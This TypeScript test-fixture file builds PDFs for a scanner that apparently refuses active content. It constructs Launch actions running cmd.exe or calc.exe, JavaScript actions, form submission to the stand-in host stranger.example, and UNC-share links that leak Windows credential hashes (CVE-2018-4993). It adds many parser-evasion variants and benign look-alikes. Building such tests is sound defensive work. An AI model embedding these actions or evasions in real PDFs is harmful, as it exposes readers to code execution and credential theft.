import { deflateSync } from 'node:zlib';
import { encryptedPdf, revisions } from './encrypted-pdfs.ts';
import { pdfOf, stream, textPdf } from './made-pdfs.ts';

type Files = Readonly<Record<string, Buffer>>;

const words = [['Ayşe Yılmaz']];
const stranger = 'https://stranger.example';
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const launch = '<< /S /Launch /F (calc.exe) >>';
const address = `<< /S /URI /URI (${stranger}) >>`;
const share = '(\\\\\\\\stranger.example\\\\cv.pdf)';
const rect = '/Rect [0 0 9 9]';

const opening = (action: string, ...more: string[]) =>
  textPdf({ pages: words, catalogue: `/OpenAction ${action}`, more });
const withPage = (page: string, ...more: string[]) => textPdf({ pages: words, page, more });
const withObjects = (...more: string[]) => textPdf({ pages: words, more });
const annotated = (annotation: string, ...more: string[]) =>
  withPage('/Annots [4 0 R]', `<< /Type /Annot ${rect} ${annotation} >>`, ...more);
const pressed = (action: string, ...more: string[]) =>
  annotated(`/Subtype /Link /A ${action}`, ...more);

const deflated = (text: string) => deflateSync(Buffer.from(text, 'latin1')).toString('latin1');

/** Objects in an object stream, the first of them with the number 9. Its entries are those that every reader needs. */
function packed(objects: readonly string[], entries = ''): string {
  let at = 0;
  const places = objects.map((object, index) => {
    const place = `${9 + index} ${at} `;
    at += object.length + 1;
    return place;
  });
  return packedAt(places.join(''), objects.join(' '), entries);
}

/** An object stream of these objects, whose numbers and offsets are in its head. */
export const packedAt = (head: string, objects: string, entries = '') =>
  stream(
    deflated(head + objects),
    `/N ${head.trim().split(' ').length / 2} /First ${head.length} /Filter /FlateDecode ${entries}`,
  );

/** Rows of four bytes, each written as its difference from the row above. */
function predicted(text: string): string {
  const bytes = Buffer.from(text.padEnd(Math.ceil(text.length / 4) * 4));
  const rows = Array.from({ length: bytes.length / 4 }, (_, row) => {
    const own = [...bytes.subarray(row * 4, row * 4 + 4)];
    return [2, ...own.map((byte, at) => (byte - (bytes[row * 4 - 4 + at] ?? 0)) & 255)];
  });
  return deflateSync(Buffer.from(rows.flat())).toString('latin1');
}

/** A later revision of a file (7.5.6): these objects replace or complete what it has. */
function revised(file: Buffer, ...objects: [number: number, object: string][]): Buffer {
  const text = objects.map(([number, object]) => `${number} 0 obj\n${object}\nendobj\n`).join('');
  const end = 'trailer\n<< /Size 99 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';
  return Buffer.concat([file, Buffer.from(text + end, 'latin1')]);
}

const replaced = (file: Buffer, from: string, to: string) =>
  Buffer.from(file.toString('latin1').replace(from, to), 'latin1');

const encrypted = (what: string, content: { script?: string; packed?: string }) =>
  Object.fromEntries(
    revisions.map((revision) => [
      `${what}, encrypted with revision ${revision} and an empty password`,
      encryptedPdf({ revision, ...content }),
    ]),
  );

const scripts: Files = {
  'a script on opening': opening(script),
  'a script among the names': textPdf({
    pages: words,
    catalogue: `/Names << /JavaScript << /Names [(a) ${script}] >> >>`,
  }),
  'a script on a page': withPage(`/AA << /O ${script} >>`),
  'a script of a field': annotated(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} >>`),
  'a script behind a press': pressed(script),
  'a script after a harmless action': pressed(
    `<< /S /GoTo /D [5 0 R /Fit] /Next [<< /S /Named /N /Print >> << /S /GoTo /Next 5 0 R >>] >>`,
    script,
  ),
  'a script of a rendition': withPage('/AA << /O << /S /Rendition /JS (app.alert\\(1\\)) >> >>'),
  'a script of a 3D model': withObjects(
    stream('U3D', '/Type /3D /OnInstantiate 5 0 R'),
    stream('a()'),
  ),
  'a script by its names in numbers': opening('<< /#53 /J#61va#53cript /#4A#53 (a\\(\\)) >>'),
  'a script whose kind lies elsewhere': opening('<< /S 4 0 R /JS (a) >>', '/JavaScript'),
  'a script whose text lies elsewhere': opening('<< /S /JavaScript /JS 4 0 R >>', '5 0 R', '(a)'),
  'a script in a stream': opening('<< /S /JavaScript /JS 4 0 R >>', stream('app.alert(1)')),
  'a script in a packed stream': opening(
    '<< /S /JavaScript /JS 4 0 R >>',
    stream(deflated('app.alert(1)'), '/Filter /FlateDecode'),
  ),
  'a script in a stream that cannot be unpacked': opening(
    '<< /S /JavaScript /JS 4 0 R >>',
    stream('616c657274>', '/Filter /ASCIIHexDecode'),
  ),
  'a script behind a comment': opening('<< /S% (\n/JavaScript /JS% <<\n(a) >>'),
  'a script behind an unbalanced string': opening(`<< /X (\\() /Y (()) /Z <28> /N ${script} >>`),
  'a script whose empty text is written twice': opening('<< /S /JavaScript /JS () /JS (a) >>'),
  'a script within a stream, where a table may point': withObjects(
    stream(`9 0 obj ${script} endobj`),
  ),
  'a script within a string, where a table may point': withObjects(
    '<< /Title (9 0 obj << /S /JavaScript /JS <61> >> endobj) >>',
  ),
  'a script in an object whose number is behind a comment': replaced(
    opening('4 0 R', script),
    '4 0 obj',
    '4 % 0 obj\n0 %\nobj',
  ),
  'a script in a catalogue within the trailer': textPdf({
    pages: words,
    trailer: `/Root << /Type /Catalog /OpenAction ${script} >>`,
  }),
  'a script that a later revision takes away': revised(opening('4 0 R', script), [4, 'null']),
  'a script that a later revision brings': revised(opening('4 0 R', 'null'), [4, script]),
  'a script that nothing refers to': withObjects(script),
  'a script in an array within arrays': withObjects(`${'['.repeat(90)}${script}${']'.repeat(90)}`),
  'a packed script': withObjects(packed([script], '/Type /ObjStm')),
  'a packed script whose stream has no type': withObjects(packed([script])),
  'a packed script whose stream has another type': withObjects(packed([script], '/Type /XObject')),
  'a packed script whose stream has entries in numbers': withObjects(
    packed([script]).replace('/First', '/#46irst').replace('/N ', '/#4E '),
  ),
  'a packed script whose stream has an array of filters': withObjects(
    packed([script]).replace('/FlateDecode', '[/FlateDecode] /DecodeParms [null]'),
  ),
  'a packed script whose stream is not packed': withObjects(
    stream(`9 0 ${script}`, '/N 1 /First 4'),
  ),
  'a packed script behind a predictor': withObjects(
    stream(
      predicted(`9 0 ${script}`),
      '/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>',
    ),
  ),
  'a packed script in streams that extend one another': withObjects(
    packed(['null'], '/Extends 5 0 R'),
    packed([script], '/Extends 4 0 R'),
  ),
  'a packed script within a string of another object': withObjects(
    packedAt('9 0 10 3 ', `(a ${script})`),
  ),
  'a packed script before another object': withObjects(packedAt('9 5 10 0 ', `null ${script}`)),
  'a packed script whose stream lies about its length': withObjects(
    packed([script]).replace(/\/Length \d+/, '/Length 3'),
  ),
  'a packed script with a false end in it': withObjects(
    stream(`9 0 (endstream) ${script}`.replace('9 0 ', '9 12 '), '/N 1 /First 5'),
  ),
  'a packed script behind a false beginning': withObjects(
    packed([script], '/X (>> stream\nendstream)'),
  ),
  'a packed script with a wrong checksum': withObjects(
    stream(`${deflated(`9 0 ${script}`).slice(0, -4)}abcd`, '/N 1 /First 4 /Filter /FlateDecode'),
  ),
  ...encrypted('a script', { script: 'app.alert(1)' }),
  ...encrypted('a packed script', { packed: `9 0 ${script}` }),
};

const starters: Files = {
  'a program on opening': opening('<< /S /Launch /Win << /F (cmd.exe) >> >>'),
  'a program behind a press': pressed(launch),
  'a program when the pointer comes': annotated(`/Subtype /Link /AA << /E ${launch} >>`),
  'a program behind other actions': opening(`<< /S /GoTo /D [5 0 R /Fit] /Next [${launch}] >>`),
  'a program whose kind lies elsewhere': opening(
    '<< /S 4 0 R /F (calc.exe) >>',
    '5 0 R',
    '/Launch',
  ),
  'a packed program whose stream has no type': withObjects(packed(['null', launch])),
  'a program that claims to be an element of the structure': withObjects(
    '<< /Type /StructElem /S /Launch /P 2 0 R /F (calc.exe) >>',
  ),
};

const actions: Files = {
  'an address on opening': opening(address),
  'an address with a page': withPage(`/AA << /O ${address} >>`),
  'an address when the pointer comes': annotated(`/Subtype /Link /AA << /E ${address} >>`),
  'an address when a field is left': annotated(
    `/Subtype /Widget /FT /Tx /T (a) /AA << /Bl ${address} >>`,
  ),
  'an address whose events lie elsewhere': withPage(
    '/AA 4 0 R',
    '5 0 R',
    '<< /C 6 0 R >>',
    address,
  ),
  'an address behind a harmless action': opening('<< /S /Trans /Next [4 0 R] >>', address),
  'an address behind actions that repeat themselves': opening(
    '4 0 R',
    '<< /S /GoTo /Next 5 0 R >>',
    `<< /S /GoTo /Next [4 0 R ${address}] >>`,
  ),
  'a packed address': opening('9 0 R', packed([address])),
  'an address whose number cannot be read': replaced(
    opening('4 0 R', address),
    '4 0 obj',
    '4 0%\nobj',
  ),
  'an address that an older revision had': revised(opening('4 0 R', address), [4, 'null']),
  'an address on the way through a presentation': withPage(
    '/PresSteps 4 0 R',
    `<< /NA ${address} >>`,
  ),
  'another file on opening': opening('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'),
  'a thread of another file on opening': opening('<< /S /Thread /F (other.pdf) /D 0 >>'),
  // Windows logs in at the share, and so gives it the reader's name and the hash of the password (CVE-2018-4993).
  'a file on a share, with a page': withPage(
    `/AA << /O << /S /GoToR /D [0 /Fit] /F ${share} >> >>`,
  ),
  'a file on a share, behind a press': pressed(`<< /S /GoToR /D [0 /Fit] /F ${share} >>`),
  'a file on a share by its PDF path': pressed(
    '<< /S /GoToR /D [0 /Fit] /F << /F (/stranger.example/cv.pdf) >> >>',
  ),
  'a file on a share by its address': pressed(
    '<< /S /GoToR /D [0 /Fit] /F << /UF <feff00660069006c0065003a002f002f0061002e0062002f0063> >> >>',
  ),
  'a file within a file': pressed(`<< /S /GoToE /D [0 /Fit] /F ${share} >>`),
  'a form that is sent on opening': opening(`<< /S /SubmitForm /F (${stranger}/form) >>`),
  'a form that is sent by a press': pressed(`<< /S /SubmitForm /F (${stranger}/form) >>`),
  'a form that is filled from a file': opening('<< /S /ImportData /F (a.fdf) >>'),
  'a form of XFA': textPdf({
    pages: words,
    catalogue: '/AcroForm << /Fields [] /XFA 4 0 R >>',
    more: [stream('<xdp/>')],
  }),
};

const loaders: Files = {
  'a picture that is elsewhere': withObjects(
    stream('', `/Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${stranger}) >>`),
  ),
  'a text that is elsewhere': withObjects(stream('', `/F ${share}`)),
  'a stream whose place is named elsewhere': withObjects(stream('', '/F 5 0 R'), '(a.txt)'),
  'a page of another file': withObjects(
    stream('', `/Subtype /Form /BBox [0 0 9 9] /Ref << /F (${stranger}/a.pdf) /Page 0 >>`),
  ),
  'a page of another file, named elsewhere': withObjects(
    stream('', '/Subtype /Form /BBox [0 0 9 9] /Ref 9 0 R'),
    packed(['<< /F (a.pdf) /Page 0 >>']),
  ),
};

const media: Files = {
  'a film on opening': opening('<< /S /Movie /T (a) /Operation /Play >>'),
  'a film': annotated('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a sound on opening': opening('<< /S /Sound /Sound 4 0 R >>', stream('aaa', '/R 8000')),
  'a sound': annotated('/Subtype /Sound /Sound 5 0 R', stream('aaa', '/R 8000')),
  'a rendition': withPage('/AA << /O << /S /Rendition /OP 0 /R << /S /MR >> >> >>'),
  'rich media': annotated('/Subtype /RichMedia /RichMediaContent << /Assets << >> >>'),
  'an order to rich media': opening('<< /S /RichMediaExecute /TA 4 0 R /CMD << /C (play) >> >>'),
};

const cut = '<< /F (calc.exe) /S /Launch';
const hidden = `9 0 ${script}`;
const unreadables: Files = {
  'objects that are packed twice': withObjects(
    packed([script]).replace('/FlateDecode', '[/ASCIIHexDecode /FlateDecode]'),
  ),
  'objects that are packed in another way': withObjects(
    stream(Buffer.from(`${hidden}>`).toString('hex'), '/N 1 /First 4 /Filter /ASCIIHexDecode'),
  ),
  'objects that are not packed as they say': withObjects(
    stream('not deflated', '/N 1 /First 4 /Filter /FlateDecode'),
  ),
  'packed objects whose number lies elsewhere': withObjects(
    packed([script]).replace('/N 1', '/N 5 0 R'),
    '1',
  ),
  'packed objects with two beginnings': withObjects(packed(['null'], '/First 2')),
  'packed objects with words among their numbers': withObjects(
    stream('a 9 0 null', '/N 1 /First 6'),
  ),
  'packed objects with less numbers than objects': withObjects(stream('9 0 null', '/N 2 /First 4')),
  'a packed program that one reader cuts off': withObjects(
    packedAt(`9 0 10 ${cut.length} `, `${cut}X >> null`),
  ),
  'packed objects in a dictionary that is not closed': withObjects(
    stream(hidden, '/X << /N 1 /First 4'),
  ),
  'a program in an array that one reader never ends': withObjects(
    '<< /X [ nan /S /Launch /F (calc.exe) >>',
  ),
  'a script in a dictionary that one reader never ends': withObjects('<< /X << /A >> /JS () >>'),
  'objects that unpack to too much': withObjects(packed([' '.repeat(150 * 1024 * 1024)])),
  'brackets without an end': withObjects('['.repeat(100_000)),
  'an encryption that its last trailer does not name': revised(
    encryptedPdf({ revision: 4, packed: hidden }),
    [8, 'null'],
  ),
};

/** PDFs that run or load something or cannot be examined, by the reason. */
export const refusedPdfs = {
  scriptFile: scripts,
  startingFile: starters,
  actionFile: actions,
  loadingFile: loaders,
  mediaFile: media,
  unreadableFile: unreadables,
  lockedFile: {
    ...Object.fromEntries(
      revisions.map((revision) => [
        `a password of revision ${revision}`,
        encryptedPdf({ revision, password: 'parola', packed: '9 0 null' }),
      ]),
    ),
    'the rights management of another company': textPdf({
      pages: words,
      trailer: '/Encrypt << /Filter /FOPN_fLock /V 1 >>',
    }),
    'an encryption without a key': textPdf({
      pages: words,
      trailer: '/Encrypt << /Filter /Standard /V 2 >>',
    }),
  },
} as const satisfies Readonly<Record<string, Files>>;

const skills = 'PHP/JavaScript, /Launch, HTML';
const link = (uri: string) => pressed(`<< /S /URI /URI (${uri}) >>`);
const linkTo = (file: string) => pressed(`<< /S /GoToR /F (${file}) /D [0 /Fit] >>`);
const plain = withObjects();
const filters = '/CF << /StdCF << /CFM /AESV3 /Length 32 >> >>';

/** Harmless PDFs, with what resembles active content or with a person's or a writer's oddities. */
export const quietPdfs: Files = {
  'a developer’s words in its description': pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [] /Count 0 >>',
      `<< /Title (Node/JavaScript \\(CV\\)) /Keywords (${skills}) /Author (a ( /XFA ) b) >>`,
    ],
    '/Info 3 0 R',
  ),
  'a developer’s words on its page': withObjects(
    stream(`BT (${skills}) Tj (<< /S /Launch /F (a) >>) Tj ET`),
    stream(`<rdf>${skills}</rdf>`, '/Type /Metadata'),
  ),
  'packed objects that do nothing': withObjects(
    packed(['<< /Title (Node/JavaScript) /First 4 0 R >>', '[/Launch /JS (a)]'], '/Type /ObjStm'),
  ),
  'a link to a page': link('https://ada.example/javascript'),
  'a link to a call': link('skype:ada?call'),
  'a link to a file on its author’s disk': link('file:///C:/Users/Ada/cv.docx'),
  'a link that a press on it follows': annotated(`/Subtype /Link /AA << /U ${address} >>`),
  // hyperref writes \\href{github.com/ada} so.
  'a link that its writer took for a file': linkTo('github.com/ada.pdf'),
  'a link to a file beside it': linkTo('../certificates/english.pdf'),
  'a link to a file of Linux': linkTo('/home/ada/cv.pdf'),
  'a link to a file of Windows': linkTo('/C:/Users/Ada/cv.pdf'),
  'a link within a thread': pressed('<< /S /Thread /D 0 >>'),
  'names without a script, as Google writes them': textPdf({
    pages: words,
    catalogue: '/Names << /JavaScript << /Names [] >> /Dests << /Names [] >> >>',
  }),
  'names of scripts that are missing': textPdf({
    pages: words,
    catalogue: '/Names << /JavaScript 99 0 R >>',
  }),
  'an empty script': opening('<< /S /JavaScript /JS () >>'),
  'a script of white space': opening('<< /S /JavaScript /JS <feff0020000a> >>'),
  'a script without a text': opening('<< /S /JavaScript >>'),
  'a script whose text is missing': opening('<< /S /JavaScript /JS 99 0 R >>'),
  'a script in an empty stream': opening('<< /S /JavaScript /JS 4 0 R >>', stream('')),
  'a script in an empty packed stream': opening(
    '<< /S /JavaScript /JS 4 0 R >>',
    stream(deflated(''), '/Filter /FlateDecode'),
  ),
  'a page that is shown on opening': opening('[5 0 R /FitH 800]'),
  'a page that is shown by an action on opening': opening('<< /S /GoTo /D [5 0 R /Fit] >>'),
  'an order to print on opening': opening('<< /S /Named /N /Print >>'),
  'a file attached to it': textPdf({
    pages: words,
    catalogue:
      '/Names << /EmbeddedFiles << /Names [(a.xml) << /Type /Filespec /F (a.xml) /EF << /F 4 0 R >> >>] >> >>',
    more: [stream('<a/>', '/Type /EmbeddedFile')],
  }),
  'a form to fill in': textPdf({
    pages: words,
    catalogue: '/AcroForm << /Fields [4 0 R] /NeedAppearances true >>',
    page: '/Annots [4 0 R]',
    more: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /F 4 /V (Ada) ${rect} >>`],
  }),
  'elements of its structure with the names of actions': withObjects(
    '<< /Type /StructElem /S /Launch /P 2 0 R /K 0 /Ref [4 0 R] >>',
    '<< /Type /StructElem /S /Rendition /P 2 0 R /K 1 >>',
    '<< /Type /StructTreeRoot /RoleMap << /Launch /P /JavaScript /Code /Sound /Span >> >>',
  ),
  'a 3D model without a script': withObjects(stream('U3D', '/Type /3D /Subtype /U3D')),
  'a picture whose filter has its short name': withObjects(
    stream('a', '/Subtype /Image /Width 1 /Height 1 /F /DCTDecode'),
  ),
  'a later revision': revised(plain, [1, '<< /Type /Catalog /Pages 2 0 R /Lang (tr) >>']),
  'a damaged table of cross-references': replaced(plain, '00000 n', '99999 n'),
  'no table of cross-references': plain.subarray(0, plain.indexOf('xref')),
  'an end that is cut off': plain.subarray(0, plain.indexOf('endobj') - 3),
  'lengths that are wrong': replaced(plain, '/Length', '/Length 7 /L'),
  'numbers that are none': withObjects(
    '<< /Type /Pattern /Matrix [1 0 0 1 nan -inf] /BBox [0 0 9] >>',
  ),
  'words without their brackets': textPdf({ pages: words, catalogue: '/Lang en-US' }),
  'white space around it': Buffer.concat([Buffer.from('\r\n  '), plain, Buffer.from(' \n\0\n')]),
  'a mark of its encoding before it': Buffer.concat([Buffer.from('\ufeff'), plain]),
  'a letter’s end behind it': Buffer.concat([plain, Buffer.from('--boundary--\r\n')]),
  'its end written twice': Buffer.concat([plain, Buffer.from('%%EOF\n%%EOF\n')]),
  ...Object.fromEntries(
    revisions.flatMap((revision) => [
      [
        `permissions of revision ${revision}, without a password`,
        encryptedPdf({ revision, packed: '9 0 null' }),
      ],
    ]),
  ),
  'permissions with metadata in the clear': encryptedPdf({
    ...{ revision: 6, packed: '9 0 null', more: '/EncryptMetadata false' },
  }),
  'permissions whose method lies elsewhere': replaced(
    replaced(encryptedPdf({ revision: 6 }), filters, '/CF 7 0 R'),
    'xref',
    `7 0 obj ${filters.slice(4)} endobj xref`,
  ),
  'a password for its attachments alone': textPdf({
    pages: words,
    trailer:
      '/Encrypt << /Filter /Standard /V 4 /R 4 /O <00> /U <00> /P -4 /StmF /Identity /StrF /Identity /EFF /StdCF /CF << /StdCF << /CFM /AESV2 >> >> >>',
  }),
};
